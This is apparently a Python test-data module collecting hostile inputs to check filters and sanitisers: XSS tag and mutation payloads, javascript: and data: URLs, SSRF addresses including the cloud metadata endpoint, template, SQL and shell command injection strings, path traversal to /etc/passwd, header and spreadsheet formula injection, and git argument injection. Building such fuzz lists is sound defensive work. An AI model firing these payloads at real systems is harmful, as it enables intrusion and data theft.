"""What attackers are known to type: past filters of HTML, addresses, templates, paths, headers, tables and git."""

from __future__ import annotations

_TAGS = (
    "<script>{}</script>", "<ScRiPt/x>{}</sCrIpT\n>", "<script src=//x.example></script>", "<scr<script>ipt>{}</script>", "<<script>{}//<</script>",
    "<img src=x onerror={}>", "<img/src/onerror={}>", "<img src='x'onerror={}>", "<img\x0csrc=x\x0bonerror={}>", "<img src=x\x00 onerror={}>",
    "<image src=x onerror={}>", "<img src=x:x onerror\n=\n{}>", '<img src="x` `<script>{}</script>"` `>', "<img srcset=x onerror={}>",
    "<body onload={}>", "<body/onpageshow={}>", "<html onmouseover={}>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>", "<keygen autofocus onfocus={}>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<video poster=javascript:{}//>", "<audio src onerror={}>", "<marquee onstart={}>", "<a onpointerenter={} href=/>x</a>",
    "<div popover id=p onbeforetoggle={}>x</div>", "<p style=animation-name:x onanimationstart={}>x</p>", "<xss contenteditable onblur={}>x</xss>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'>", "<iframe src=javascript:{}>", "<object data=data:text/html,{}>", "<embed src=javascript:{}>",
    "<applet code={}>", "<frameset onload={}><frame src=/>", "<base href=//x.example/>", "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//x.example>", "<link rel=import href=data:,{}>", "<isindex action=javascript:{} type=submit>",
    "<form action=javascript:{}><button>x", "<button formaction=javascript:{}>x", "<input type=image src=x onerror={}>",
    "<table background=javascript:{}>", "<td background=javascript:{}>", "<bgsound src=javascript:{}>", "<layer src=//x.example></layer>",
    "<dialog open onclose={}>", "<slot onslotchange={}>", "<portal src=//x.example>", "<fencedframe src=//x.example>", "<x is=x onclick={}>x",
)  # fmt: skip
_MUTATING = (
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<svg><p><style><!--</style><img src=x onerror={}>-->", "<math><annotation-xml encoding=text/html><script>{}</script></annotation-xml></math>",
    "<math><mi><table><td><mglyph><svg><mtext><style><img src=x onerror={}></style>", "<svg><title><a id='</title><img src=x onerror={}>'>",
    "<svg><desc><p><b><script>{}</script>", "<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>", "<svg/onload={}>", "<svg><script>{}",
    "<svg><script href=data:,{} />", "<svg><a xlink:href=javascript:{}><text y=9>x</text></a></svg>", "<svg><set attributeName=onmouseover to={}>",
    "<svg><animate href=#a attributeName=href values=javascript:{} /><a id=a>x</a>", "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/>",
    "<svg><image href=//x.example/i.svg>", "<math href=javascript:{}>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:{}>x",
    "<xmp><p title='</xmp><img src=x onerror={}>'>", "<title><p title='</title><img src=x onerror={}>'>", "<iframe><p title='</iframe><img src=x onerror={}>'>",
    "<noembed><p title='</noembed><img src=x onerror={}>'>", "<textarea><p title='</textarea><img src=x onerror={}>'>", "<plaintext><img src=x onerror={}>",
    "<template><s><template><s><img src=x onerror={}>@</s></template>", "<select><template><img src=x onerror={}>", "<!--><img src=x onerror={}>-->",
    "<!--!><img src=x onerror={}>-->", "<!-- --!><img src=x onerror={}>", "<![CDATA[<img src=x onerror={}>]]>", "<?xml-stylesheet href=javascript:{}?>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;", "</p/<img src=x onerror={}>", "</title></textarea></style></script><svg onload={}>",
    "<p id='`--><img src=x onerror={}>`'>", "<a title=\"'><img src=x onerror={}>\">", "<option><style></option></select><img src=x onerror={}></style>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={}//>\\x3e",
    "\"'--></style></script><svg oNload={}>", "'\"()&%<acx><ScRiPt >{}</ScRiPt>", "+ADw-script+AD4-{}+ADw-/script+AD4-", "\u2028<script>{}</script>\u2029",
    "%3Cscript%3E{}%3C/script%3E", "%253Cscript%253E{}", "&lt;script&gt;{}&lt;/script&gt;", "&#60script&#62{}&#60/script&#62", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "\\u003cscript\\u003e{}", "\\x3cscript\\x3e{}", "</script><script>{}", "]]><script xmlns='http://www.w3.org/1999/xhtml'>{}</script>",
)  # fmt: skip
ADDRESSES = tuple(
    address.replace("{}", "alert(1)")
    for address in (
        "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "\x01javascript:{}", "java\tscript:{}", "java\nscript:{}", "java\rscript:{}",
        "java\x00script:{}", "javascript&colon;{}", "javascript&#58;{}", "javascript&#x3a;{}", "&#106;avascript:{}", "&#x6A&#x61vascript:{}",
        "java&Tab;script:{}", "java&NewLine;script:{}", "javascript\u200b:{}", "java\xadscript:{}", "\ufeffjavascript:{}", "\u3000javascript:{}",
        "javascript%3A{}", "javascript:%0A{}", "javascript://x.example/%0A{}", "view-source:javascript:{}", "feed:javascript:{}", "jar:javascript:{}",
        "vbscript:msgbox(1)", "VbScRiPt:x", "livescript:x", "mocha:x", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload={}>", "DATA:,x", "da\tta:text/html,x", "file:///etc/passwd", "blob:http://x/1", "filesystem:http://x/t/1", "about:blank",
        "intent://x#Intent;scheme=javascript;end", "ms-word:ofe|u|http://x.example", "search-ms:query=x", "//x.example", "/\\x.example", "\\\\x.example\\y",
        "/\t/x.example", "/%09/x.example", "https:x.example", "https:/\\x.example", "///x.example", "////x.example/%2f..", "http://127.0.0.1:22",
        "http://169.254.169.254/latest/meta-data", "http://[::1]/", "http://0x7f.1/", "http://2130706433/", "gopher://127.0.0.1:25/x", "dict://127.0.0.1:1",
        "http://signal.org@x.example", "http://signal.org%00.x.example", "ssh://-oProxyCommand=x/y", "ext::sh -c x",
    )
)  # fmt: skip
WORDS = (
    "{{7*191}}", "${7*191}", "#{7*191}", "{% print(7*191) %}", "{{''.__class__.__mro__}}", "<%= 7*191 %>", "${{7*191}}", "@(7*191)", "{{config}}", "{0.__class__}",
    "%(name)s%s%n", "$(id)", "`id`", "; id", "| id", "&& id", "$IFS", "' OR 1=1 --", "'; DROP TABLE users;--", "*)(uid=*", "../../../etc/passwd",
    "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "%252e%252e%252f", "..%c0%af..%c0%af", "..%5c..%5c", "/.git/config", "/.GIT/config", "git~1/config",
    ".g\u200cit/config", ".git::$INDEX_ALLOCATION", "con", "nul.png", "aux.txt", "file.txt:stream", "~root", "\u2024\u2024/\u2024\u2024/x", "a/./b//c/../d",
    "x\r\nSet-Cookie: a=b", "x%0d%0aSet-Cookie:%20a=b", "x\nBcc: a@x.example", "x\u560d\u560aSet-Cookie: a=b", "x\x00y", "x%00y", "\ud7ff\uffff", "\x1b[31mred\x07",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example","x")', '"=1+1"', "\uff1d1+1", ";=1+1",
    "--upload-pack=id", "--output=x", "-c core.pager=id", "-O./id", "HEAD@{1}", "@{-1}", ":/x", "^{/x}", "HEAD:_wiki/site.yml", "refs/heads/main..", "a..b",
    "\u202ecod.exe", "\u2066x\u2069", "admin\u200b", "\u0430dmin", "Zal\u0335g\u0336o", "\ufdfa" * 9, "\U000e0041", "Co-authored-by: X <x@x.example>",
)  # fmt: skip
MARKUP = tuple(text.replace("{}", "alert(1)") for text in (*_TAGS, *_MUTATING))
# All addresses in each shape that a link or a picture can have.
LINKS = tuple(
    "\n\n".join(shape.replace("{}", address) for address in ADDRESSES)
    for shape in ("[x]({})", "[x](<{}>)", "<{}>", '<a href="{}">x</a>', "![x]({})", "[[{}|x]]", "<img src='{}'>")
)
EVERYTHING = (*MARKUP, *ADDRESSES, *WORDS)
